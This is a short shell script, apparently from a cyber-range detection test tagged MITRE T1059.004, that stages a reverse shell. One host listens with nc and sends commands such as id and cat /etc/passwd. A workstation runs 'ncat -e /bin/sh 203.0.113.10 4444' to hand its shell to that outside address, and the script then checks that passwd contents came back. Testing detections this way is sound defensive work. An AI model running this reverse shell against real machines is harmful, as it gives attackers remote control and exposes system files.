# SPDX-License-Identifier: Apache-2.0
# what: a shell given to a server outside by nc
# technique: T1059.004
# from: ws1
# to: inet
# account: -
# outcome: success
# must: finding 9130007
. "$RANGE_HERE/item.sh"
at inet sh -c '{ for c in id hostname "cat /etc/passwd" "ip addr" "ls -la /" whoami; do sleep 0.7; echo "$c"; done; sleep 0.5; } | timeout 20 nc -l -p 4444 >"$RANGE/hosts/inet/home/got"' &
sleep 0.5
timeout 15 ncat -e /bin/sh 203.0.113.10 4444
sleep 0.5
says 'root:' cat "$RANGE/hosts/inet/home/got"
